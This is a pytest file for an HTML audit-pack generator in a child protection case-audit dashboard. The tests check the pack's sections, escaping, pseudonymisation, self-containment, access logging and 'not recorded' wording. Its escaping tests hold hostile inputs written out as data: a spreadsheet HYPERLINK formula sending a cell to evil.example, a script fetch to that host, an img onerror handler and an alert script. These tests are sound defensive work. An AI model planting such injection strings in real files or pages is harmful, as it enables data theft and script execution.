"""The audit pack on the hand-worked store (tests/support/audit_store.py): every section is there,
every value from the store is escaped, no record id but the child's pseudonym is printed, it is
self-contained, and it copes with a child with no plans, one plan and several."""
from __future__ import annotations

import re
from datetime import date
from html.parser import HTMLParser

import pytest

from paqa_dash import access_log, cli, store
from paqa_dash.report import pack
from support.audit_store import AS_OF, CA, CB, CC, FAMILY_MARKUP, MARKUP, PA1, PA2, build_audit_store

HEADINGS = [h for _a, h, _q in pack.SECTIONS]


@pytest.fixture(scope="module")
def db(tmp_path_factory):
    path = build_audit_store(tmp_path_factory.mktemp("pack") / "pack.duckdb")
    con = store.connect(path)
    # A child known only from a referral: in the store, no plan.
    con.execute("INSERT INTO children (child_id, family_id, birth_month, sex, ethnicity, disability, run_id) "
                "VALUES ('ddddddddddddddd1', NULL, DATE '2019-01-01', 'F', NULL, NULL, 1)")
    con.execute("INSERT INTO events VALUES ('ddddddddddddde01', 'ddddddddddddddd1', DATE '2022-05-01', 'REFERRAL', "
                "'POLICE', NULL, 'Police referral', 1, NULL)")
    con.close()
    return path


@pytest.fixture(scope="module")
def con(db):
    c = store.connect(db, read_only=True)
    yield c
    c.close()


@pytest.fixture(scope="module")
def html_a(con):
    return pack.build_pack(con, CA, as_of=AS_OF)


class _Collect(HTMLParser):
    """Tags, h2 texts and attribute values, to check structure without regexes on markup."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.h2: list[str] = []
        self.attrs: list[tuple[str, str]] = []
        self._in_h2 = False

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += [(k, v or "") for k, v in attrs]
        self._in_h2 = tag == "h2"
        if tag == "h2":
            self.h2.append("")

    def handle_endtag(self, tag):
        if tag == "h2":
            self._in_h2 = False

    def handle_data(self, data):
        if self._in_h2:
            self.h2[-1] += data


def _parse(html: str) -> _Collect:
    p = _Collect()
    p.feed(html)
    return p


def test_every_section_in_order(html_a):
    assert html_a.startswith("<!DOCTYPE html>")
    assert _parse(html_a).h2 == HEADINGS
    for anchor, _h, _q in pack.SECTIONS:
        assert f'id="{anchor}"' in html_a
    for q in pack.AUDIT_QUESTIONS:     # the blank findings form mirrors the 9 questions
        assert q.replace("'", "&#x27;") in html_a


def test_findings_of_child_a_are_in_the_pack(html_a):
    assert "PREMATURE" in html_a                       # plan 1 ended prematurely
    assert html_a.count("DUPLICATE") == 1              # plan 2 repeats plan 1's action (0.85)
    assert html_a.count("matching words: ") == 1 and "meaning similarity" in html_a  # and says why
    assert "NO ACTION" in html_a                       # 4B open with no action
    assert "0 of 2 (0%)" in html_a and "LOW" in html_a  # Health absent from both core groups
    assert "before plan 2" in html_a                   # the adult who joined in the gap
    assert "<mark" in html_a and "non-compliant</mark>" in html_a
    assert "SYNTHETIC DATA" in html_a
    assert "4B mental health (parent/carer)" in html_a


def test_every_value_is_escaped(html_a):
    parsed = _parse(html_a)
    assert "script" not in parsed.tags                 # the challenge detail is text, not markup
    assert "b" not in parsed.tags                      # nor is the household change's <b>
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt; &amp; HV disagreed" in html_a
    assert FAMILY_MARKUP not in html_a and "New partner &lt;b&gt;moved&lt;/b&gt; in" in html_a
    assert MARKUP not in html_a


def test_no_record_ids_but_the_childs_pseudonym(con, html_a):
    ids = set()
    for table, col in (("plans", "plan_id"), ("events", "event_id"), ("actions", "action_id"),
                       ("needs", "need_id"), ("family_changes", "change_id"), ("children", "family_id")):
        ids |= {r[0] for r in con.execute(f"SELECT {col} FROM {table} WHERE {col} IS NOT NULL").fetchall()}
    leaked = sorted(i for i in ids if i in html_a)
    assert leaked == []
    assert CA in html_a and CC not in html_a and CB not in html_a


def test_self_contained(html_a):
    parsed = _parse(html_a)
    assert not {"script", "link", "img", "iframe"} & set(parsed.tags)
    external = [v for k, v in parsed.attrs if k in ("src", "href") and not v.startswith("#")]
    assert external == []
    assert not re.search(r"url\((?!#)", html_a)       # CSS url() only to inline SVG patterns
    assert "<svg" in html_a and "@page" in html_a and "break-inside: avoid" in html_a


def test_one_plan_and_no_plan_children(con):
    one = pack.build_pack(con, CB, as_of=AS_OF)
    assert _parse(one).h2 == HEADINGS
    assert "Plan 1" in one and "No plan actions are recorded" in one
    none = pack.build_pack(con, "ddddddddddddddd1", as_of=AS_OF)
    assert _parse(none).h2 == HEADINGS
    assert "No child protection plan is recorded" in none and "Police referral" in none


def test_as_of_hides_what_had_not_happened(con):
    early = pack.build_pack(con, CA, as_of=date(2020, 12, 1))
    assert "Plan 2" not in early and "PREMATURE" not in early
    assert "AT RISK" in early                          # plan 1 ended with reasons and had no later plan yet


def test_unknown_child_is_a_key_error(con):
    with pytest.raises(KeyError, match="no child with pseudonym 0000000000000bad in the store"):
        pack.build_pack(con, "0000000000000bad")


def test_command_line_writes_the_pack(db, tmp_path, capsys):
    out = tmp_path / "pack.html"
    assert cli.main(["pack", CA, "--db", str(db), "--out", str(out)]) == 0
    text = out.read_text(encoding="utf-8")
    assert _parse(text).h2 == HEADINGS
    assert cli.main(["pack", "0000000000000bad", "--db", str(db), "--out", str(tmp_path / "x.html")]) == 2
    assert "no child with pseudonym" in capsys.readouterr().err


def test_a_pack_written_by_the_command_line_is_in_the_access_log(db, tmp_path):
    """Every export is logged (docs/governance.md): a pack made at the command line is an export of the child's
    whole file, found by the log's Child filter like the app's pack download; a pack refused is no export."""
    log = access_log.log_path(db)
    before = len(access_log.read(path=log).records)
    out = tmp_path / "for_the_panel.html"
    assert cli.main(["pack", CA, "--db", str(db), "--out", str(out)]) == 0
    assert cli.main(["pack", "0000000000000bad", "--db", str(db), "--out", str(tmp_path / "x.html")]) == 2
    records = access_log.read(path=log).records[before:]
    assert len(records) == 1
    (record,) = records
    assert (record.action, record.child, record.page) == (access_log.EXPORT, CA, "command line")
    assert record.detail == "audit pack for_the_panel.html" and record.identity.endswith("(command line)")
    assert access_log.read(access_log.Query(child=CA, action=access_log.EXPORT), log).records[-1] == record


def test_pack_file_name_is_safe():
    assert pack.pack_file_name("ab/../c d", date(2024, 1, 2)) == "audit_pack_abcd_2024-01-02.html"


def test_an_annex_a_child_reads_not_recorded_never_late(tmp_path):
    """Annex A carries no core groups, attendance or household changes: the pack says so (issue 13)."""
    from paqa_dash.pipeline import run_import
    from support.paths import FIXTURES

    db = tmp_path / "annex.duckdb"
    run_import([FIXTURES / "samples" / "annex_a" / "Annex_A.xlsx"], db)
    annex = store.connect(db, read_only=True)
    try:
        child = annex.execute("SELECT child_id FROM plans ORDER BY start_date LIMIT 1").fetchone()[0]
        html = pack.build_pack(annex, child)
    finally:
        annex.close()
    text = re.sub(r"<[^>]+>", " ", html)
    assert "Core group attendance is not recorded in this data" in text
    assert "Household changes are not recorded in this data" in text
    assert "core groups late or missed" in text.lower() and "Not assessed, not recorded in this data" in text
    timing = html[html.index("First core group"):]
    timing = timing[:timing.index("</table>")]
    rows = [re.findall(r"<td[^>]*>(.*?)</td>", r, re.S) for r in re.findall(r"<tr[^>]*>(.*?)</tr>", timing, re.S)]
    rows = [r for r in rows if r]
    assert rows and all(r[1:4] == ["not recorded in this data"] * 3 for r in rows)   # held, first, later
    assert "No core group attendance is recorded" not in text



def test_a_child_of_meetings_only_reads_challenges_and_agreements_not_recorded(tmp_path):
    """A store of core group meetings that records no challenge, escalation or written agreement (hand-built: child
    a, plan A1 2022-01-01..2022-06-01 with a core group on 2022-02-01): the pack says both are not recorded, never
    "No challenge or escalation is recorded in this child's chronology" nor "0 challenges" in the title."""
    from support.store_builder import build_store

    con = build_store(tmp_path / "m.duckdb", plans=[
        {"plan_id": "A1", "child_id": "a", "start_date": "2022-01-01", "end_date": "2022-06-01",
         "end_reason": "STEP_DOWN_CIN", "initial_category": "NEG", "team": "North"}],
        events=[{"event_id": "g1", "child_id": "a", "event_date": "2022-02-01", "event_type": "CORE_GROUP",
                 "agency": "CSC", "plan_id": "A1", "detail": "Core group"}])
    try:
        html = pack.build_pack(con, "a", as_of=date(2026, 1, 1))
    finally:
        con.close()
    text = re.sub(r"<[^>]+>", " ", html)
    assert "Challenge and escalation are not recorded in this data: no challenges or escalations" in text
    assert "Written agreements are not recorded in this data: no written agreements" in text
    assert "No challenge or escalation is recorded" not in text
    caption = html[html.index("<figcaption>"):html.index("</figcaption>")]
    title = re.search(r"<strong>(.*?)</strong>", caption).group(1)
    assert "challenges, written agreements" in title and not re.search(r"\b0 challenges", title)


def test_a_pack_without_plan_actions_counts_a_short_first_plan_re_planned_and_names_the_signs_not_checked(tmp_path):
    """Plans alone (a census): child k's first plan lasted 6 weeks and another followed 3.5 months later.  The cover
    says the concern applies, as the audit sample counts it, and names the signs not checked (the Plan endings
    page's words); it is not among the concerns not assessed."""
    from support.store_builder import build_store

    def plan(pid, start, end=None):
        return {"plan_id": pid, "child_id": "k", "start_date": start, "end_date": end, "initial_category": "NEG",
                "team": "North", "end_reason": "NO_LONGER_AT_RISK" if end else None}

    con = build_store(tmp_path / "k.duckdb", plans=[plan("K1", "2023-01-01", "2023-02-15"), plan("K2", "2023-06-01")])
    try:
        html = pack.build_pack(con, "k", as_of=date(2024, 1, 1))
    finally:
        con.close()
    cover = html[:html.index('id="chronology"')]
    applies = re.search(r'<ul class="concerns">(.*?)</ul>', cover, re.S).group(1)
    assert "First plan ended prematurely" in applies
    assert ("First plan ended prematurely: warning signs not checked: actions not done and adult need unaddressed, "
            "not recorded in this data: no ") in cover
    unassessed = re.search(r"Not assessed, not recorded in this data: ([^<]*)", cover).group(1)
    assert "first plan ended prematurely" not in unassessed


def test_the_chronology_title_is_plain_text(html_a):
    """The timeline's title in the pack's caption is text: plotly's line break is not printed as "<br>"."""
    caption = html_a[html_a.index("<figcaption>"):html_a.index("</figcaption>")]
    assert "&lt;br&gt;" not in caption and "<br>" not in caption
    assert re.search(r"<strong>\d+ CP plans?, \d+ events?, \d+ household changes?, \d+ challenges?", caption)


def test_an_annex_a_pack_says_adult_needs_and_the_title_counts_are_not_recorded(tmp_path):
    """Annex A records no needs, household changes or challenges: the cover and the chronology's title say so,
    never "Adult needs still open 0" or "0 household changes, 0 challenges; 0 adult needs still open"; one event
    is "1 event"."""
    from paqa_dash.pipeline import run_import
    from support.paths import FIXTURES

    db = tmp_path / "annex.duckdb"
    run_import([FIXTURES / "samples" / "annex_a" / "Annex_A.xlsx"], db)
    annex = store.connect(db, read_only=True)
    try:
        children = [r[0] for r in annex.execute("SELECT DISTINCT child_id FROM plans ORDER BY 1").fetchall()]
        packs = [pack.build_pack(annex, child) for child in children]
    finally:
        annex.close()
    for html in packs:
        cover = html[:html.index('id="chronology"')]
        rows = dict(re.findall(r"<dt>(.*?)</dt>\s*<dd>(.*?)</dd>", cover, re.S))
        assert rows["Adult needs still open"] == "not recorded in this data"
        # no plan actions: a first plan ended prematurely is assessed from short plans, the signs not checked named
        unassessed = re.search(r"Not assessed, not recorded in this data: ([^<]*)", cover).group(1)
        assert "first plan ended prematurely" not in unassessed
        assert "First plan ended prematurely: warning signs not checked: actions not done" in cover
        caption = html[html.index("<figcaption>"):html.index("</figcaption>")]
        title = re.search(r"<strong>(.*?)</strong>", caption).group(1)
        assert "not recorded: household changes, challenges, written agreements, adult needs" in title
        assert not re.search(r"\b0 (household|challenge|adult)", title) and "&lt;br&gt;" not in title
        assert not re.search(r"\b1 events\b", re.sub(r"<[^>]+>", " ", html))
        # Annex A records no challenge or written agreement at all (as the Challenge page says)
        text = re.sub(r"<[^>]+>", " ", html)
        assert "No challenge or escalation is recorded" not in text and "No written agreement is recorded" not in text
        assert "Challenge and escalation are not recorded in this data" in text
        assert "Written agreements are not recorded in this data" in text
    # the repeat plans' earlier plans are only a count: whether they came within the window is not assessed
    assert any("re-planned within the window" in re.search(r"Not assessed, not recorded in this data: ([^<]*)",
                                                             html).group(1) for html in packs)

HOSTILE = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\") <script>fetch('http://evil.example')</script> "
           "[see the report](http://evil.example/x) <img src=x onerror=alert(1)>")


def test_hostile_action_text_reads_back_as_text(tmp_path):
    """An action written by an attacker in the source file (a formula, a script, a markdown link, an image
    with a handler): the pack written by the command line shows it as text and runs or links nothing."""
    path = build_audit_store(tmp_path / "hostile.duckdb")
    c = store.connect(path)
    c.execute("INSERT INTO actions VALUES ('a1a1a1a1a1a1a1a9', ?, ?, NULL, NULL, NULL, 'OPEN', NULL, NULL, 1)",
              [PA2, HOSTILE])
    c.close()
    out = tmp_path / "pack.html"
    assert cli.main(["pack", CA, "--db", str(path), "--out", str(out)]) == 0
    text = out.read_text(encoding="utf-8")
    parsed = _parse(text)
    assert not {"script", "img"} & set(parsed.tags)
    external = [v for k, v in parsed.attrs if k in ("src", "href", "onerror") and not v.startswith("#")]
    assert external == []
    assert "evil.example" in text                              # shown, as text ...
    assert "&lt;script&gt;fetch(&#x27;http://evil.example&#x27;)&lt;/script&gt;" in text
    assert "&lt;img src=x onerror=alert(1)&gt;" in text
    assert "<script" not in text and "<img" not in text       # ... never as markup
    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;Click&quot;)" in text
    assert "[see the report](http://evil.example/x)" in text   # a markdown link stays its characters


def _needs_rows(html: str) -> list[list[str]]:
    """The rows of section 4's needs table, as text cells."""
    part = html[html.index('class="needs"'):]
    part = part[:part.index("</table>")]
    return [[re.sub(r"<[^>]+>", "", cell).strip() for cell in re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)]
            for row in re.findall(r"<tr[^>]*>(.*?)</tr>", part, re.S) if "<td" in row]


def test_census_needs_read_resolution_not_recorded_never_open(tmp_path):
    """A CIN census records assessment factors with no resolved date, ever: section 4, which the audit group
    judges question 4 on, says the resolution is not recorded (as the cover does), never OPEN; the chronology's
    picture does not call them still open.  Needs from a source with resolved dates still read OPEN."""
    from paqa_dash.pipeline import run_import
    from support.paths import FIXTURES

    db = tmp_path / "census.duckdb"
    run_import([FIXTURES / "cin" / "authority_2022.xml"], db)
    census = store.connect(db, read_only=True)
    try:
        child = census.execute("SELECT child_id FROM needs GROUP BY 1 ORDER BY count(*) DESC, 1 LIMIT 1").fetchall()[0][0]
        html = pack.build_pack(census, child)
    finally:
        census.close()
    rows = _needs_rows(html)
    assert rows and all(r[3] == "not recorded in this data" for r in rows)
    assert "OPEN" not in html[html.index('id="needs"'):html.index('id="engagement"')]
    section = re.sub(r"<[^>]+>", " ", html[html.index('id="needs"'):html.index('id="engagement"')])
    assert "Resolved: not recorded in this data: no resolution dates of needs" in section
    svg = html[html.index("<svg"):html.index("</svg>")]
    assert "still open</title>" not in svg and "resolution not recorded in this data</title>" in svg
    # a bundle whose needs carry resolved dates: an unresolved one is open
    bundle = build_audit_store(tmp_path / "bundle.duckdb")
    c = store.connect(bundle)
    c.execute("INSERT INTO needs VALUES ('a1a1a1a1a1a1a1n2', ?, ?, DATE '2019-12-01', '1B', DATE '2020-03-01', 1)",
              [CA, PA1])
    c.close()
    c = store.connect(bundle, read_only=True)
    try:
        resolved = pack.build_pack(c, CA, as_of=AS_OF)
    finally:
        c.close()
    assert sorted(r[3] for r in _needs_rows(resolved)) == ["01 Mar 2020", "OPEN"]
    assert "Resolved: not recorded" not in resolved
